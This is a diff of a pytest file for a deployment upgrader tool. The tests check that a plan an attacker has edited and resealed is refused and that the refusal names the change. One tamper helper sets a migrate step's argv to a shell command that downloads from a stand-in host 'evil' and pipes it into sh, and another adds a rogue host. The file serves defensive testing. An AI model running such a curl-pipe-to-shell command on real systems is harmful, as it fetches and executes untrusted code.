@@ -22,42 +22,16 @@ from upgrader.cli.main import main
 from upgrader.commands import early
 from upgrader.commands.apply import plan_again, reviewed_inputs
 from upgrader.engine import endpoints as endpoints_module
-from upgrader.engine import pool as pool_module
-from upgrader.engine import remote
 from upgrader.engine.staleness import first_difference, rederived_difference
 from upgrader.errors import RefusedError
 from upgrader.loading.inputs import load_inventory
 from upgrader.models.plan import Plan, fingerprint
-from upgrader.transport import fabric_adapter
 
 REPO = Path(__file__).resolve().parents[2]
 PLAYBOOK = REPO / "playbooks" / "ordergw-5.2.0.yml"
 INVENTORY = REPO / "inventories" / "prod-na.yml"  # TEST-NET addresses: nothing may connect to them
 
 Edit = Callable[[dict[str, Any]], None]
-
-
-class Connected(RefusedError):
-    """Raised where a connection would begin: the check let the plan through."""
-
-
-@pytest.fixture
-def connections(monkeypatch: pytest.MonkeyPatch) -> list[str]:
-    """Every transport or pool created and every agent start, recorded; none of them connects."""
-    made: list[str] = []
-
-    def transport(self: fabric_adapter.FabricTransport, endpoint: Any, *args: Any, **kwargs: Any) -> None:
-        made.append(f"transport {endpoint.name}")
-        raise Connected(f"reached the transport of {endpoint.name}")
-
-    def pool(self: pool_module.Pool, *args: Any, **kwargs: Any) -> None:
-        made.append("pool")
-        raise Connected("reached the pool")
-
-    monkeypatch.setattr(fabric_adapter.FabricTransport, "__init__", transport)
-    monkeypatch.setattr(pool_module.Pool, "__init__", pool)
-    monkeypatch.setattr(remote, "start", lambda *a, **k: made.append("agent start"))
-    return made
 
 
 @pytest.fixture
@@ -75,7 +49,7 @@ def reseal(path: Path, edit: Edit) -> None:
     """Edit the plan's data and write it back with a correct content hash, as an attacker would."""
     data = json.loads(path.read_text())
     edit(data)
-    path.write_text(Plan.model_validate(data).sealed().to_json())
+    path.write_text(Plan.from_data(data).sealed().to_json())
 
 
 def apply(plan: Path, capsys: pytest.CaptureFixture[str], inventory: str = "inventory.yml") -> tuple[int, str]:
@@ -90,14 +64,13 @@ def refusal(code: int, connections: list[str], err: str, needle: str) -> str:
 
 
 def _first_migrate(data: dict[str, Any]) -> dict[str, Any]:
-    return next(s for h in data["hosts"] for s in h["steps"] if s["action"] == "migrate")
+    """The migrate operation, written once in the operations table and named by every host's migrate step."""
+    return next(op for op in data["operations"] if op["op"] == "migrate")
 
 
 def _add_host(data: dict[str, Any]) -> None:
     host = json.loads(json.dumps(data["hosts"][0]))
-    host["host"] = "evil-1"
-    for step in host["steps"]:
-        step["id"] = "evil-1/" + step["id"].split("/", 1)[1]
+    host["host"] = "evil-1"  # its steps' ids are its program's, with its name in front
     data["hosts"].append(host)
     data["phases"][-1]["hosts"].append("evil-1")
 
@@ -107,7 +80,7 @@ def _migrate_command(data: dict[str, Any]) -> None:
 
 
 def _migrate_detail(data: dict[str, Any]) -> None:
-    _first_migrate(data)["op"]["argv"] = ["/bin/sh", "-c", "curl evil | sh"]  # what the engine would send
+    _first_migrate(data)["argv"] = ["/bin/sh", "-c", "curl evil | sh"]  # what the engine would send
 
 
 def _version(data: dict[str, Any]) -> None:
@@ -137,8 +110,7 @@ EDITS: dict[str, tuple[Edit, str]] = {
     ),
     "changes a migrate step": (
         _migrate_detail,
-        'hosts[0].steps[9].op.argv[0]: plan says "/bin/sh", '
-        'playbook gives "/opt/ordergw/releases/5.2.0/bin/migrate-config"',
+        'operations[11].argv[0]: plan says "/bin/sh", playbook gives "/opt/ordergw/releases/5.2.0/bin/migrate-config"',
     ),
     "changes a version": (_version, 'hosts[0].path[1]: plan says "5.1.9", playbook gives "5.2.0"'),
     "changes the spec": (_spec, "spec.canary.bake: plan says 0.0, playbook gives 8.0"),
@@ -157,7 +129,7 @@ def test_an_edited_and_resealed_plan_is_refused_naming_the_difference(
     change, named = EDITS[edit]
     reseal(saved, change)
     assert (
-        Plan.model_validate_json(saved.read_text()).compute_hash() == json.loads(saved.read_text())["content_hash"]
+        Plan.from_json(saved.read_text()).compute_hash() == json.loads(saved.read_text())["content_hash"]
     )  # the hash alone would let it through
     code, err = apply(saved, capsys)
     assert code == 1, err
@@ -180,7 +152,7 @@ def test_an_edit_without_resealing_is_refused_too(
 def test_an_untouched_plan_passes_and_only_then_connects(
     saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
 ) -> None:
-    plan = Plan.model_validate_json(saved.read_text())
+    plan = Plan.from_json(saved.read_text())
     inputs = reviewed_inputs(saved, plan, Path("inventory.yml"))
     assert rederived_difference(saved.read_text(), plan_again(plan, inputs)) is None
     code, err = apply(saved, capsys)  # past every check, the pool is the next thing
@@ -189,7 +161,7 @@ def test_an_untouched_plan_passes_and_only_then_connects(
 
 def test_a_reindented_plan_is_the_same_plan(saved: Path, connections: list[str]) -> None:
     text = json.dumps(json.loads(saved.read_text()), indent=4)
-    plan = Plan.model_validate_json(text)
+    plan = Plan.from_json(text)
     assert rederived_difference(text, plan_again(plan, reviewed_inputs(saved, plan, Path("inventory.yml")))) is None
 
 
@@ -369,7 +341,7 @@ def test_long_values_are_cut() -> None:
 
 def test_refusal_is_a_refused_error(saved: Path) -> None:
     reseal(saved, _spec)
-    plan = Plan.model_validate_json(saved.read_text())
+    plan = Plan.from_json(saved.read_text())
     (saved.parent / "playbook.yml").unlink()
     with pytest.raises(RefusedError):
         reviewed_inputs(saved, plan, Path("inventory.yml"))
@@ -380,7 +352,7 @@ def test_live_facts_must_still_be_the_assumed_ones_requires_included(saved: Path
     from upgrader.engine.staleness import drift
     from upgrader.planning.planner import facts_from_plan
 
-    plan = Plan.model_validate_json(saved.read_text())
+    plan = Plan.from_json(saved.read_text())
     facts = facts_from_plan(plan)
     assert drift(plan, facts, playbook_sha=None, inventory_sha=plan.inventory.sha256) == []
     host = "ny5-oe01"
